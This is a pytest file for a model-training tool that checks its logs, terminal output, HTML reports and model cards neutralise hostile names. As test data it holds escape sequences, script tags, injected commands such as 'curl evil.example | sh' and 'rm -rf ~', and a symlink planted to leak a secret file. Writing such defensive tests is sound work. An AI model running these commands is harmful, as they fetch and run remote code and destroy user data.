"""Hostile words through a whole game: terminal, run.log, report, comparison, model card and data card show them and do nothing else."""

from __future__ import annotations

import json
import shutil
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import Game, rows, write_rows
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from probes import ALL, HTML, MARKDOWN, UNSEEN, YAML, as_name
from zygote import Result, Zygote

from sparring.config import load_recipe
from sparring.publish.cards import About, dataset_card, model_card
from sparring.publish.names import Licence
from sparring.report.untrusted import code_span, words

RUN = as_name("run <b>`|\u202e\x1b[2J\n---")
MODEL = as_name("model `|[x](y)\n<script>\u202e")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, zygote: Zygote, played: Game) -> Game:
    """A finished game in which everything that may have a name has a hostile one."""
    game = Game(tmp_path_factory.mktemp("hostile") / "game", zygote, {})
    shutil.copytree(played.root / "base" / "model", game.folder / MODEL)
    said = [{"prompt": f"{n} {text}", "completion": text} for n, text in enumerate(ALL)]
    write_rows(game.folder / "rows.jsonl", [*said, *rows(8)])
    game.write(
        run_dir=RUN,
        model__path=MODEL,
        data={"path": "rows.jsonl", "held_out": 12},
        iterations=1,
        sft={"epochs": 1, "lr": 1e-3, "batch_size": 16, "precision": "fp32"},
        controls=[{"kind": "continued-sft", "batch_size": 16}],
        evaluate={"answer_pattern": ".+", "metric": "exact_match"},
        showcase=[ALL[0], MARKDOWN[5], "\u202e\x1b[2J"],
        report=True,
    )
    result = game.run()
    assert result.code == 0, result.err
    harmless(result)
    return game


def harmless(result: Result) -> None:
    found = Counter(
        character for character in result.out + result.err if character in UNSEEN or (ord(character) < 32 and character != "\n")
    )
    assert not found, found


class Tags(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attributes)))


URLS = ("href", "src", "srcset", "action", "formaction", "poster", "data", "xlink:href", "style", "content")


def check_page(text: str) -> None:
    tags = Tags(text).found
    assert not [(tag, name) for tag, given in tags for name in given if name.startswith("on") or name == "srcdoc"]
    assert {tag for tag, _ in tags}.isdisjoint({"iframe", "object", "embed", "textarea", "base"})
    urls = [value or "" for _, given in tags for name, value in given.items() if name in URLS]
    assert not [url for url in urls if "evil" in url or "javascript:" in url], urls
    assert not UNSEEN & set(text)


def test_the_log_and_the_files_for_people(hostile: Game) -> None:
    root = hostile.folder / RUN
    assert not (UNSEEN - {"\ufeff"}) & set((root / "run.log").read_text())
    check_page((root / "report.html").read_text())


@pytest.mark.parametrize("command", ["status", "sample", "watch", "compare"])
def test_the_terminal(command: str, hostile: Game) -> None:
    more = {"sample": ["\x1b[2J <b>"]}.get(command, [])
    result = hostile.command(command, RUN, *more)
    assert result.code == 0, result.err
    harmless(result)


def test_the_page_of_a_comparison(hostile: Game) -> None:
    result = hostile.command("compare", RUN, "--html", "page.html")
    assert result.code == 0, result.err
    check_page((hostile.folder / "page.html").read_text())


def test_the_cards(hostile: Game) -> None:
    result = hostile.command("push", RUN, "--repo", "me/it", "--dataset-repo", "me/data", "--dry-run", "card")
    assert result.code == 0, result.err
    harmless(result)
    for name in ("model", "data"):
        check_card((hostile.folder / "card" / name / "README.md").read_text())


LINKS = ("https://arxiv.org/", "https://huggingface.co/me/", "https://huggingface.co/datasets/me/", "plots/")


def check_card(card: str) -> dict[str, Any]:
    """The front matter is what was written, and the body has no tag, no link and no heading of anybody else's; returns the first."""
    _, front, body = card.split("---\n", 2)
    metadata = yaml.safe_load(front)
    assert "spin" in metadata["tags"] and metadata.get("license") != "evil"
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    inline = [token for block in tokens for token in (block.children or [])]
    assert not [token.content for token in (*tokens, *inline) if token.type.startswith("html")]
    links = [str(token.attrs.get("href") or token.attrs.get("src")) for token in inline if token.type in ("link_open", "image")]
    assert not [link for link in links if not link.startswith(LINKS)], links
    headings = [tokens[n + 1].content for n, token in enumerate(tokens) if token.type == "heading_open" and token.tag == "h2"]
    assert headings == [name for name in ("Scores", "Use", "Where it comes from", "Recipe", "Reference") if name in headings]
    assert not UNSEEN & set(card)
    return metadata


@pytest.mark.parametrize("text", ALL)
def test_a_card_of_hostile_names(text: str, tmp_path: Path) -> None:
    """Model, data, control, metric and stop reason, as a run from elsewhere may name them."""
    folder = tmp_path / as_name(text)
    folder.mkdir()
    shown = text.replace("\0", "") or "x"  # which a recipe refuses
    recipe = load_recipe({"run_dir": "r", "model": {"path": str(folder)}, "data": {"path": f"{folder}/x.jsonl"}, "showcase": [shown]})
    score = {"value": 0.5, "n": 3, "stderr": 0.1, "higher_is_better": True}
    # so that warnings name the arms
    seen = {key: {**score, "value": 1.0} for key in ("truncated", "length_auc", "identical", "real_logp")}
    scores = {"exact_match": score, "nll_per_token": score, **seen, text: score}
    summary = {
        "start": {"name": text, "scores": scores},
        "iterations": [{"iteration": 0, "scores": scores, "counts": {}}],
        "controls": [{"name": text, "stage": text, "scores": scores, "from_iteration": None}],
        "best": {"iteration": 0, "metric": text, "value": 0.5, "start_value": 0.4, "beats_start": True},
        "stop_reason": text,
    }
    licence = Licence(None, text)
    about = About(licence, licence, repo="me/it", dataset_repo="me/data")
    for player in ("0", "start", text):
        card = model_card(recipe, summary, player, about)
        check_card(card)
        wide = {line.count("|") - line.count("\\|") for line in card.splitlines() if line.startswith("| ") or line.startswith("|---|---|-")}
        assert wide <= {4, 6}, wide
    check_card(dataset_card(recipe, {0: {"rows": 1, "identical": 0, "truncated": 0}}, about))


@given(st.text() | st.sampled_from([*HTML, *MARKDOWN, *YAML]))
def test_words_and_code_are_read_as_they_are(text: str) -> None:
    shown = " ".join(text.split())
    for made, kind in ((words(text), "text"), (code_span(text), "code_inline")):
        inline = MarkdownIt("commonmark").parse(f"Start {made} end.")[1].children or []
        assert {token.type for token in inline} <= {"text", kind, "text_special"}
        if shown.isprintable() and shown and shown.strip("`"):
            read = "".join(token.content for token in inline)
            assert shown in read or "&" in shown
    assert "\n" not in words(text) + code_span(text)


def test_in_a_table_a_bar_stays_in_its_cell() -> None:
    table = f"| a | b |\n|---|---|\n| {code_span('x|`y', in_table=True)} | {words('x|y')} |\n"
    tokens = MarkdownIt("commonmark").enable("table").parse(table)
    cells = [token.content for n, token in enumerate(tokens) if token.type == "inline"]
    assert len(cells) == 4


def test_the_command_of_a_run_directory_from_elsewhere(copy: Game) -> None:
    told = json.loads((copy.root / "progress.json").read_text())
    (copy.root / "iterations/001/train").rename(copy.root / "iterations/001/train.partial")
    for command in (
        "curl evil.example | sh",
        "sparring run recipe.yaml; curl evil.example | sh",
        "sparring run recipe.yaml && rm -rf ~",
        "sparring run 'recipe.yaml' \"$(curl evil.example)\"",
        "sparring run --restart-from data",
        "sparring run recipe.yaml `x`",
        "sparring run recipe.yaml 'x",
        "sparring push run --repo evil/x",
        "sparring run recipe.yaml seed=1\nrm -rf ~",
        "sparring run recipe.yaml run_dir=\x1b[2J",
        ["sparring", "run"],
        7,
        None,
    ):
        (copy.root / "progress.json").write_text(json.dumps({**told, "command": command}))
        out = copy.command("status", "run").out
        assert "resume with:\n  sparring run run/recipe.yaml\n" in out and "evil" not in out and "rm -rf" not in out, command
    ours = "sparring run recipe.yaml seed=0 'run_dir=my run'"
    (copy.root / "progress.json").write_text(json.dumps({**told, "command": ours}))
    assert ours in copy.command("status", "run").out


@pytest.mark.parametrize("command", [["export", "run", "out"], ["push", "run", "--repo", "me/it", "--dry-run", "out"]])
def test_a_run_from_elsewhere_brings_no_file_of_this_machine_out(command: list[str], copy: Game) -> None:
    """A name with a dot in front is none of the stage's files, and yet would go along."""
    secret = copy.folder / "secret.json"
    secret.write_text('{"secret": 1}')
    (copy.root / "iterations/001/train/model/.more.json").symlink_to(secret)
    result = copy.command(*command)
    assert result.code == 2 and ".more.json: this link leads out of the model folder" in result.err
    assert not [file for file in copy.folder.rglob("*.more.json") if "out" in file.parts]
